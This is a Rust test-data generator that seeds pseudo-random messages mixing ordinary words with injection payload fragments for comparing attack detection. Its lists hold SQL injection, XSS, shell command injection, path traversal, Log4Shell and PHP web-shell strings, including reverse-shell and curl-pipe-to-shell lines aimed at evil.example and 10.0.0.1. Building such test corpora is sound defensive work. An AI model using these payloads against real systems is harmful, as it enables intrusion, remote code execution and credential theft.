//! Messages for comparisons: attacks of many kinds and ordinary talk, put together by chance out of pieces.

/// Chance that is the same in every run.
pub(crate) struct Chance(u64);

impl Chance {
    pub(crate) const fn new(seed: u64) -> Self {
        Self(seed)
    }

    pub(crate) fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        self.0 >> 33
    }

    pub(crate) fn of<'a>(&mut self, pieces: &[&'a str]) -> &'a str {
        pieces[self.next() as usize % pieces.len()]
    }
}

pub(crate) const NAMES: &[&str] =
    &["text", "q", "user", "comment", "id", "path", "url", "title", "body", "note", "file", "x"];
const WORDS: &[&str] = &[
    "hello",
    "meeting",
    "tomorrow",
    "the",
    "order",
    "please",
    "select",
    "a",
    "menu",
    "update",
    "my",
    "address",
    "and",
    "or",
    "drop",
    "me",
    "a",
    "line",
    "at",
    "noon",
    "from",
    "work",
    "let's",
    "it's",
    "union",
    "station",
    "500 EUR",
    "50%",
    "(maybe)",
    "ok?",
    "C++",
    "a/b",
    "why not",
    "where",
    "table",
    "cat",
    "price < 10",
    "R&D",
    "x = y",
    "#1",
    "—",
    "für",
    "ñandú",
    "你好",
    "https://example.com/a?b=c",
    "user@example.com",
    "2026-11-28",
    "$5.00",
    "*bold*",
    "`code`",
    "...",
];
const OPEN: &[&str] = &["'", "\"", "')", "1", "-1", "1'", "admin'", "x\")", "", "1;", "`", "%27", "0x31"];
const SQL: &[&str] = &[
    " or 1=1",
    " OR 'a'='a",
    " union select null,version()",
    " UNION ALL SELECT user,password FROM users",
    "; drop table users",
    " and sleep(5)",
    " and benchmark(1000000,md5(1))",
    " order by 10",
    " having 1=1",
    " || (select 1)",
    "; exec xp_cmdshell('dir')",
    " and (select count(*) from information_schema.tables)>0",
    " into outfile '/tmp/x'",
    " waitfor delay '0:0:5'",
    " procedure analyse()",
    " like '%",
    " between 1 and 2",
    " group by users.id",
    " and extractvalue(1,concat(0x7e,version()))",
    "/**/union/**/select/**/1",
    " or true",
];
const END: &[&str] = &["--", " -- -", "#", "/*", ";%00", "", "'", "\"", ")--"];
const HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=confirm(1)>",
    "javascript:alert(1)",
    "<iframe src=\"javascript:alert(1)\">",
    "\"><script src=//evil.example></script>",
    "<a href=data:text/html,x>y</a>",
    "<body onload=alert(1)>",
    "<style>@import 'x';</style>",
    "<object data=x>",
    "&lt;script&gt;alert(1)",
    "<b>bold</b>",
    "<meta http-equiv=refresh content=0>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
    "<x onclick=a()>",
    "document.cookie",
    "window.location='x'",
    "<embed src=x>",
    "eval(atob('YQ=='))",
    "<!--#exec cmd=\"ls\" -->",
];
const SHELL: &[&str] = &[
    "; cat /etc/passwd",
    "| id",
    "&& whoami",
    "$(uname -a)",
    "`ls -la`",
    "; wget http://evil.example/x -O /tmp/x",
    "|/bin/bash -i",
    "; ping -c 1 127.0.0.1",
    "& dir c:\\",
    "cmd.exe /c dir",
    "powershell -enc ZQBj",
    "() { :;}; /bin/ls",
    ";curl evil.example|sh",
    "/bin/cat /etc/shadow",
    "; rm -rf /",
    "nc -e /bin/sh 10.0.0.1 99",
    "${IFS}cat${IFS}x",
    "c'a't /e't'c/passwd",
    "python -c 'import os'",
    "; echo test > a",
    "time ls",
    "sudo su",
];
const FILES: &[&str] = &[
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/shadow",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//x",
    "/proc/self/environ",
    "php://filter/convert.base64-encode/resource=a",
    "http://10.0.0.1/shell.txt?",
    "file:///etc/hosts",
    ".htaccess",
    "/WEB-INF/web.xml",
    "..%c0%af..%c0%afetc",
    ".git/config",
    "c:\\boot.ini",
    "/var/log/apache2/access.log",
    "ftp://evil.example/x??",
    "wp-config.php",
    "/.ssh/id_rsa",
];
const CODE: &[&str] = &[
    "<?php system($_GET['x']); ?>",
    "phpinfo()",
    "${jndi:ldap://evil.example/a}",
    "java.lang.Runtime.getRuntime().exec(1)",
    "O:8:\"stdClass\":0:{}",
    "base64_decode('x')",
    "$_SERVER['x']",
    "require('child_process').exec('id')",
    "{{7*7}}",
    "eval($x)",
    "fopen('a')",
    "#{7*7}",
    "rO0ABXNyABE",
    "process.env",
    "this.constructor.constructor('x')()",
    "_$$ND_FUNC$$_function(){}",
    "allow_url_include=1",
    "auto_prepend_file=x",
    "ProcessBuilder",
    "$a('b')",
    "$_POST[x]",
    "org.apache.struts2",
    "class.module.classLoader",
    "<?xml version=\"1.0\"?><!DOCTYPE x>",
    "\r\nSet-Cookie: a=b",
    "a\r\nContent-Length: 5\r\n\r\nHTTP/1.1 200",
    "(&(uid=*)(x=y))",
    "GET / HTTP/1.0",
    "%0d%0aLocation: x",
    "[php]",
    "\\x41\\x42",
];

/// A message: a flat object of texts.
pub(crate) fn message(chance: &mut Chance) -> String {
    let mut object = serde_json::Map::new();
    for _ in 0..1 + chance.next() % 4 {
        let text = text(chance);
        object.insert(chance.of(NAMES).to_owned(), text.into());
    }
    serde_json::Value::from(object).to_string()
}

/// A text: half of them have an attack in them.
pub(crate) fn text(chance: &mut Chance) -> String {
    let words = |chance: &mut Chance, most: u64| {
        let count = chance.next() % (most + 1);
        (0..count).map(|_| chance.of(WORDS)).collect::<Vec<_>>().join(" ")
    };
    match chance.next() % 12 {
        0 => [chance.of(OPEN), chance.of(SQL), chance.of(END)].concat(),
        1 => [&words(chance, 3), chance.of(OPEN), chance.of(SQL), chance.of(SQL), chance.of(END)].concat(),
        2 => format!("{}{}", words(chance, 2), chance.of(HTML)),
        3 => format!("{}{}", words(chance, 2), chance.of(SHELL)),
        4 => format!("{}{}", words(chance, 1), chance.of(FILES)),
        5 => format!("{} {}", words(chance, 1), chance.of(CODE)),
        _ => words(chance, 24),
    }
}
